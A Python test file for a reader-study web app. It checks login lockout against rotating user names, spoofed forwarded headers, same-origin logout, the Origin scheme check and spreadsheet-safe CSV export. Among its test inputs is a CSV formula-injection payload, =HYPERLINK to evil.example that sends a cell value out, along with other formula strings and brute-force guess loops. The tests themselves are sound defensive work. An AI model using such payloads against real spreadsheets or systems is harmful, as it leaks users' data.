"""The web side of blinding and of the admin login: a login flood cannot stall the server
or dodge the lockout by rotating user names; forwarded client addresses are believed only
from a named proxy; `/admin` redirects; logging out needs a same-origin POST; a closed
study serves no image; CSV cells cannot become formulas after a separator; the Origin
check compares the scheme; answers faster than a plausible reading time are counted per
reader."""
from __future__ import annotations

import asyncio
import contextlib
import csv
import inspect
import threading

import httpx
import pandas as pd
import pytest

from studio_fixtures import make_loud_study, serve_studio

from studio.web import app as app_mod
from studio.web import auth
from studio_fixtures import from_address




class CountingCreds(auth.AdminCredentials):
    """Credentials that count (and record the thread of) every password hash."""

    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        self.hashes, self.threads = 0, []

    def matches(self, user, password):
        self.hashes += 1
        self.threads.append(threading.get_ident())
        return super().matches(user, password)


def _counting(password="right") -> CountingCreds:
    base = auth.AdminCredentials.from_password("admin", password, "env")
    return CountingCreds(base.user, base.salt, base.digest, base.source)


# ------------------------------------------------------------------------------ login brake
def test_rotating_user_names_does_not_dodge_the_lockout():
    """120 attempts from one address under 120 user names: only the first MAX_FAILURES are
    hashed, then the address is refused under any name (even with the right password);
    the admin at another address still logs in."""
    creds = _counting()
    a = auth.AdminAuth(creds)
    attacker, admin = "203.0.113.9", "198.51.100.7"
    results = [from_address(attacker, a, f"user{i}", "guess") for i in range(120)]
    assert not any(results)
    assert creds.hashes == auth.MAX_FAILURES
    assert a.locked(address=attacker) and not from_address(attacker, a, "admin", "right")
    assert not a.locked(address=admin) and from_address(admin, a, "admin", "right")


def test_ipv6_clients_count_per_64_network():
    a = auth.AdminAuth(_counting())
    for i in range(auth.MAX_FAILURES):
        assert not from_address(f"2001:db8:1:2::{i + 1:x}", a, "admin", "guess")
    assert a.locked(address="2001:db8:1:2:ffff::1")      # same /64: same brake
    assert not a.locked(address="2001:db8:1:3::1")        # another network: not
    assert auth.address_key("::ffff:192.0.2.1") == "192.0.2.1"


def test_login_hashes_off_the_event_loop_and_parallel_guesses_cannot_overtake_the_count():
    creds = _counting()
    a = auth.AdminAuth(creds)
    assert inspect.iscoroutinefunction(a.login)

    async def flood():
        loop_thread = threading.get_ident()
        token = auth.CLIENT_ADDRESS.set("203.0.113.50")
        try:
            results = await asyncio.gather(*(a.login(f"n{i}", "guess") for i in range(40)))
        finally:
            auth.CLIENT_ADDRESS.reset(token)
        token = auth.CLIENT_ADDRESS.set("198.51.100.1")
        try:
            ok = await a.login("admin", "right")
        finally:
            auth.CLIENT_ADDRESS.reset(token)
        return loop_thread, results, ok

    loop_thread, results, ok = asyncio.run(flood())
    assert not any(results) and ok
    assert creds.hashes == auth.MAX_FAILURES + 1      # 40 parallel guesses, 5 hashes
    assert loop_thread not in creds.threads           # every hash ran in the pool


def test_the_studio_gives_gradio_the_async_checker(tmp_path):
    db, _, _ = make_loud_study(tmp_path, readers=())
    a = auth.AdminAuth(auth.AdminCredentials.from_password("admin", "pw", "env"))
    app = app_mod.build_app(db, admin_auth=a)
    gradio_admin = app_mod.mounted_app(app, "/admin")
    assert inspect.iscoroutinefunction(gradio_admin.auth)
    assert gradio_admin.auth == a.login


# ------------------------------------------------------------------------------ studio over HTTP
@pytest.fixture(scope="module")
def served(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("web")
    db, rows, tokens = make_loud_study(tmp, readers=("dr-a",))
    with serve_studio(db, writer_process=False) as (url, _):
        yield url, db, tokens


def _client(url, address="127.0.0.1", **kw):
    return httpx.Client(base_url=url, timeout=30, follow_redirects=False,
                        transport=httpx.HTTPTransport(local_address=address), **kw)


def test_http_lockout_counts_rotating_names_per_address(served):
    url, *_ = served
    with _client(url, "127.0.0.4") as attacker, _client(url, "127.0.0.5") as admin:
        for i in range(auth.MAX_FAILURES + 3):
            r = attacker.post("/admin/login", data={"username": f"name{i}", "password": "x"})
            assert r.status_code == 400
        r = attacker.post("/admin/login", data={"username": "admin", "password": "pw-test"})
        assert r.status_code == 400  # locked, whatever the name
        assert admin.post("/admin/login",
                          data={"username": "admin", "password": "pw-test"}).status_code == 200


def test_x_forwarded_for_from_localhost_is_not_believed(served):
    """The studio's server takes the TCP peer as the client: a local process sending a new
    X-Forwarded-For with every guess still meets the lockout."""
    url, *_ = served
    with _client(url, "127.0.0.1") as c:  # uvicorn's default trusted proxy address
        for i in range(auth.MAX_FAILURES):
            c.post("/admin/login", data={"username": "admin", "password": "x"},
                   headers={"X-Forwarded-For": f"198.51.100.{i + 1}"})
        r = c.post("/admin/login", data={"username": "admin", "password": "pw-test"},
                   headers={"X-Forwarded-For": "192.0.2.77"})
        assert r.status_code == 400


async def _echo_client(scope, receive, send):
    """A bare ASGI app answering with the client address and scheme uvicorn reports."""
    if scope["type"] == "lifespan":
        while True:
            message = await receive()
            if message["type"] == "lifespan.startup":
                await send({"type": "lifespan.startup.complete"})
            elif message["type"] == "lifespan.shutdown":
                await send({"type": "lifespan.shutdown.complete"})
                return
    body = f"{scope['client'][0]} {scope['scheme']}".encode()
    await send({"type": "http.response.start", "status": 200,
                "headers": [(b"content-type", b"text/plain")]})
    await send({"type": "http.response.body", "body": body})


@contextlib.contextmanager
def _echo_server(**kw):
    server = app_mod.Server(_echo_client, "127.0.0.1", app_mod.free_port(), **kw).start()
    try:
        yield server.url
    finally:
        server.stop()


@pytest.mark.parametrize("allow, expected", [
    (None, "127.0.0.1 http"),                      # default: the peer, headers ignored
    ("127.0.0.1", "203.0.113.5 https"),            # the named proxy is believed
    ("10.0.0.1", "127.0.0.1 http"),                # another proxy's headers are not
])
def test_forwarded_headers_only_from_the_named_proxy(allow, expected):
    with _echo_server(forwarded_allow_ips=allow) as url:
        r = httpx.get(url, headers={"X-Forwarded-For": "203.0.113.5",
                                    "X-Forwarded-Proto": "https"})
    assert r.text == expected


def test_cli_passes_forwarded_allow_ips_to_the_server(monkeypatch, tmp_path):
    from click.testing import CliRunner

    from studio.cli import app as cli_app  # noqa: F401  (registers `medisyn studio`)
    from studio.cli import cli

    seen = {}

    def fake_prepare(db_path, **kw):
        return app_mod.StartInfo(tmp_path / "s.db", None, "http://127.0.0.1:7860/",
                                 auth.AdminAuth(auth.AdminCredentials.from_password(
                                     "admin", "pw", "env")), None, "env")

    monkeypatch.setattr(app_mod, "prepare", fake_prepare)
    monkeypatch.setattr(app_mod, "launch", lambda *a, **kw: seen.update(kw))
    monkeypatch.setattr("studies.storage.settings.set_base_url", lambda *a, **kw: None)
    res = CliRunner().invoke(cli, ["studio", "--db", str(tmp_path / "s.db"),
                                   "--forwarded-allow-ips", "10.0.0.2"])
    assert res.exit_code == 0, res.output
    assert seen["forwarded_allow_ips"] == "10.0.0.2"
    res = CliRunner().invoke(cli, ["studio", "--db", str(tmp_path / "s.db")])
    assert res.exit_code == 0 and seen["forwarded_allow_ips"] is None


def test_admin_without_slash_redirects(served):
    url, *_ = served
    with _client(url) as c:
        r = c.get("/admin")
        assert r.status_code in (301, 302, 307, 308)
        assert str(c.get("/admin").next_request.url).endswith("/admin/")
        assert c.get("/admin", follow_redirects=True).status_code == 200
        assert c.get("/admin?x=1").headers["location"] == "admin/?x=1"


@contextlib.contextmanager
def _logged_in(url, address):
    with _client(url, address) as c:
        assert c.post("/admin/login", data={"username": "admin", "password": "pw-test"}
                      ).status_code == 200
        assert c.get("/admin/gradio_api/login_check").status_code == 200
        yield c


def test_logout_needs_a_same_origin_post(served):
    url, *_ = served
    with _logged_in(url, "127.0.0.7") as c:
        # a cross-site link or image (GET) does not log out
        assert c.get("/admin/logout").status_code == 405
        assert c.get("/admin/logout/").status_code == 405
        assert c.get("/admin/gradio_api/login_check").status_code == 200
        # nor a cross-site form (POST from another origin)
        r = c.post("/admin/logout", headers={"Origin": "https://evil.example"})
        assert r.status_code == 403
        assert c.get("/admin/gradio_api/login_check").status_code == 200
        # the studio's own button: a same-origin POST ends the session
        cookies = dict(c.cookies)
        r = c.post("/admin/logout", headers={"Origin": url})
        assert r.status_code == 303
        assert c.get("/admin/gradio_api/login_check").status_code == 401
    with _client(url, "127.0.0.7", cookies=cookies) as again:  # the old cookie is dead too
        assert again.get("/admin/gradio_api/login_check").status_code == 401


def test_logout_button_posts():
    from studio.admin import view as admin_view

    assert 'fetch("logout", {method: "POST"' in admin_view.ADMIN_HEAD


# ------------------------------------------------------------------------------ closed study
def test_a_closed_study_serves_no_image(tmp_path):
    from studies import lifecycle, readers, session
    from studies import serving
    from studies.errors import NotAuthorised

    db, _, tokens = make_loud_study(tmp_path, readers=("dr-a",))
    ref = readers.reader_for_token(db, tokens["dr-a"])
    view = session.next_case(db, ref.reader_id)
    assert serving.current_stimulus_png(db, tokens["dr-a"], view.stimulus_id)[1]
    app = app_mod.build_app(db, admin_auth=auth.AdminAuth(
        auth.AdminCredentials.from_password("admin", "pw", "env")))
    from starlette.testclient import TestClient

    with TestClient(app) as c:
        route = f"/stimulus/{view.stimulus_id}?token={tokens['dr-a']}"
        assert c.get(route).status_code == 200
        for status in ("closed", "archived"):
            lifecycle.set_status(db, "ten", status)
            with pytest.raises(NotAuthorised):
                serving.current_stimulus_png(db, tokens["dr-a"], view.stimulus_id)
            assert c.get(route).status_code == 404
        lifecycle.set_status(db, "ten", "open")
        assert c.get(route).status_code == 200


# ------------------------------------------------------------------------------ Origin scheme
@pytest.mark.parametrize("scheme, base_url, origin, allowed", [
    ("http", None, "http://studio.test", True),
    ("http", None, "https://studio.test", False),        # scheme differs from the request's
    ("https", None, "http://studio.test", False),
    ("https", None, "https://studio.test", True),
    ("http", "https://studio.test/", "https://studio.test", True),   # TLS proxy, base URL
    ("http", "https://studio.test/", "http://evil.studio.test", False),
    ("https", "https://studio.test/", "http://studio.test", False),
    ("http", None, "http://studio.test:80", True),
    ("https", None, "https://studio.test:443", True),
    ("http", None, "ftp://studio.test", False),
])
def test_origin_check_compares_the_scheme(scheme, base_url, origin, allowed):
    from studio.web.security import WebSecurity

    reached = []

    async def inner(scope, receive, send):
        reached.append(scope["path"])
        await send({"type": "http.response.start", "status": 200, "headers": []})
        await send({"type": "http.response.body", "body": b""})

    sent = []

    async def send(message):
        sent.append(message)

    async def receive():
        return {"type": "http.request", "body": b"", "more_body": False}

    scope = {"type": "http", "method": "POST", "path": "/admin/login", "scheme": scheme,
             "headers": [(b"host", b"studio.test"), (b"origin", origin.encode())],
             "client": ("192.0.2.1", 5000)}
    asyncio.run(WebSecurity(inner, base_url=base_url)(scope, receive, send))
    assert bool(reached) == allowed
    assert sent[0]["status"] == (200 if allowed else 403)


# ------------------------------------------------------------------------------ CSV cells
HYPERLINK = 'Berlin;=HYPERLINK("http://evil.example/?"&A1,"x")'


def _live_pieces(cell: str) -> list[str]:
    """Formula cells a spreadsheet that splits on `;`, `,`, `|` or tab would make of it."""
    import re

    from studies.cells import _PLAIN_NUMBER

    return [p for p in re.split(r"[,;|\t\r\n]", cell)
            if p.startswith(("=", "+", "-", "@")) and not _PLAIN_NUMBER.fullmatch(p)]


@pytest.mark.parametrize("value", [
    HYPERLINK, "Berlin;=1+1", "a,@SUM(A1)", "x|+cmd", "a\t-x", "note\n=1", "a;'=1", "a;-3",
    "=a;=b", "ok; fine", "'lead;=x",
])
def test_formula_after_a_separator_is_neutralised_and_reversible(value):
    from studies.cells import spreadsheet_safe, spreadsheet_unsafe

    safe = spreadsheet_safe(value)
    assert _live_pieces(safe) == []
    assert spreadsheet_unsafe(safe) == value


def test_export_split_on_semicolons_has_no_formula(tmp_path):
    """The long export opened in a spreadsheet set to `;` as the separator: the prompt
    `Berlin;=1+1` (written unquoted by the CSV writer) must not become a formula cell."""
    from studies.design import StudyOptions
    from studies.export import read_long_csv, write_export
    from studies.ingest import create_study
    from studies.readers import invite, reader_for_token
    from studies.session import next_case, submit
    from study_fixtures import write_images, write_manifest

    rows = write_images(tmp_path / "data")
    for row in rows:
        row["prompt"] = "Berlin;=1+1" if row["source"] == "synthetic" else "Paris;@cmd"
    manifest = write_manifest(tmp_path / "data" / "cases.csv", rows,
                              ["path", "source", "modality", "prompt"])
    db = tmp_path / "s.db"
    create_study(db, "s", manifest=manifest, size=32, options=StudyOptions(tasks=("turing",)))
    ref = reader_for_token(db, invite(db, "s", "dr-x", acknowledge_leak=True))
    view = next_case(db, ref.reader_id)
    submit(db, ref.reader_id, view.assignment_id, "turing", 2, 900, "k1")
    out = tmp_path / "long.csv"
    write_export(db, "s", "long", out)
    with open(out, newline="", encoding="utf-8") as fh:
        text = fh.read()
    cells = [c for line in text.splitlines() for c in line.split(";")]
    assert [c for c in cells if c.startswith(("=", "@"))] == []
    assert set(read_long_csv(out)["prompt"]) <= {"Berlin;=1+1", "Paris;@cmd"}


def test_augment_csv_writer_is_spreadsheet_safe(tmp_path):
    from evaluation import augment

    augment._write_csv(tmp_path / "r.csv", [{"arm": "=HYPERLINK(1)", "x": "a;@b", "n": 3}])
    with open(tmp_path / "r.csv", newline="") as fh:
        row = next(csv.DictReader(fh))
    assert row == {"arm": "'=HYPERLINK(1)", "x": "a;'@b", "n": "3"}


# ------------------------------------------------------------------------------ fast answers
def test_fast_answers_are_counted_per_reader():
    from studies.stats.analysis import FAST_ANSWER_MS, analyze

    rows = []
    for reader, durations in (("fast", [120, 300, 4000, 200]), ("slow", [2500, 3100, 1800, 5000])):
        for i, ms in enumerate(durations):
            base = dict(study="s", reader=reader, case=f"c{i}", source="real" if i % 2 else "synthetic",
                        generator="", modality="", prompt="", truth="real" if i % 2 else "synthetic",
                        rating=2, training=0, repeat=0, group="", duration_flagged=0,
                        pair_case="", comment="", non_diagnostic=0)
            rows.append({**base, "task": "turing", "response": "real", "duration_ms": ms,
                         "answered_at": f"2026-01-01T00:0{i}:00+00:00"})
            # the second question on the same image follows a look already taken
            rows.append({**base, "task": "quality", "response": "4", "rating": 4,
                         "duration_ms": 100, "answered_at": f"2026-01-01T00:0{i}:30+00:00"})
    # training reads are not counted
    rows.append({**rows[0], "case": "t0", "training": 1, "duration_ms": 10})
    flags = analyze(pd.DataFrame(rows))["reader_flags"]
    assert flags["fast_answer_ms"] == FAST_ANSWER_MS
    assert flags["n_reads_timed"] == 8 and flags["n_reads_fast"] == 3
    assert flags["fast_reads_by_reader"] == {"fast": {"n_fast": 3, "n_reads": 4}}
